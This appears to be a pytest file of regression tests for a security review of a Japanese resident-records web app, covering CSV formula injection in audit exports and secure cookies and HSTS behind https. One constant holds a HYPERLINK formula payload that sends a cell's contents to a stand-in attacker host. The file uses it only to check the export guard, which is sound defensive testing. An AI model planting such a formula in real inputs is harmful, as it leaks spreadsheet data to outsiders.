"""The outside security test's findings (issue 12, docs/SECURITY-TESTING.md): one test or more
per finding, each of which failed before its fix."""
import csv
import io
import pathlib
import re
from datetime import date

import pytest

import models
from kenshin import audit
from kenshin.core import dates
from kenshin.core.names import name_key

from .conftest import csrf_from, login, page_csrf

ROOT = pathlib.Path(__file__).resolve().parent.parent
SYSTEM = audit.Actor.system("pytest")
FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"詳細")'


def today():
    return dates.today_jst().isoformat()


def make_resident(atena_no, name="千葉 花子", kana="チバ ハナコ", birth=date(1970, 5, 1)):
    return models.Resident.create(
        atena_no=atena_no, name=name, name_kana=kana, kana_key=kana.replace(" ", ""),
        name_key=name_key(name), sex=2, birth_date=birth, address="千葉市中央区1-1",
        updated_at=dates.now_utc())


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


# --- 2. CSV formulas --------------------------------------------------------------------------

def test_audit_export_guards_a_formula_typed_as_login_id_and_in_a_resident_name(
        app, db, client, login_as):
    page = client.get("/login")
    client.post("/login", data={"csrf_token": csrf_from(page.get_data(as_text=True)),
                                "login_id": FORMULA, "password": "whatever it is"})
    person = make_resident("9001", name="=1+2")
    with models.db.atomic():
        audit.record("resident.view", SYSTEM, resident=person)
    client, _ = login_as("auditor")
    response = client.post("/audit/export", data={
        "csrf_token": page_csrf(client, "/audit/"), "start": today(), "end": today()})
    rows = csv_rows(response)
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and "'=1+2" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_one_csv_writer_quotes_every_formula_start(text):
    from kenshin.core.listing import csv_bytes

    rows = list(csv.reader(io.StringIO(csv_bytes(["a"], [[text]]).decode("utf-8-sig"))))
    assert rows[1] == ["'" + text]


def test_every_export_goes_through_the_one_csv_writer():
    """Only kenshin/core/listing.py may build a csv.writer: every export gets the guard."""
    writers = [str(path.relative_to(ROOT)) for folder in ("kenshin", "blueprints")
               for path in (ROOT / folder).rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text("utf-8"))]
    assert writers == ["kenshin/core/listing.py"]


# --- 3. cookies behind https --------------------------------------------------------------------

HTTPS = "https://kenshin.example.lan"


@pytest.mark.config(ORIGIN=HTTPS, RP_ID="kenshin.example.lan")
def test_https_origin_gives_a_secure_host_prefixed_cookie_and_hsts(app, db, client, make_staff):
    person = make_staff("clerk")
    page = client.get("/login", base_url=HTTPS)
    assert page.headers["Strict-Transport-Security"].startswith("max-age=")
    response = client.post("/login", base_url=HTTPS, headers={"Referer": HTTPS + "/login"},
                           data={"csrf_token": csrf_from(page.get_data(as_text=True)),
                                 "login_id": person.login_id, "password": person.password})
    assert response.status_code == 200 and "生体認証でログイン" in response.get_data(as_text=True)
    cookie = response.headers["Set-Cookie"]
    assert cookie.startswith("__Host-kenshin=")
    attributes = [part.strip().lower() for part in cookie.split(";")[1:]]
    assert "secure" in attributes and "httponly" in attributes and "samesite=strict" in attributes
    assert "path=/" in attributes and not [a for a in attributes if a.startswith("domain")]
    assert response.headers["Strict-Transport-Security"].startswith("max-age=")


def test_an_environment_https_origin_is_honoured_too(monkeypatch, tmp_path):
    from app import create_app

    monkeypatch.setenv("KENSHIN_ORIGIN", HTTPS)
    app = create_app({"SECRET_KEY": "k", "AUDIT_KEY": "k",
                      "DATABASE_URL": f"sqlite:///{tmp_path}/x.db"})
    assert app.config["SESSION_COOKIE_SECURE"] is True
    assert app.config["SESSION_COOKIE_NAME"] == "__Host-kenshin"


def test_plain_http_origin_keeps_an_unprefixed_cookie_without_hsts(app, client):
    response = client.get("/login")
    assert "Strict-Transport-Security" not in response.headers
    assert app.config["SESSION_COOKIE_SECURE"] is False
    assert app.config["SESSION_COOKIE_NAME"] == "kenshin"
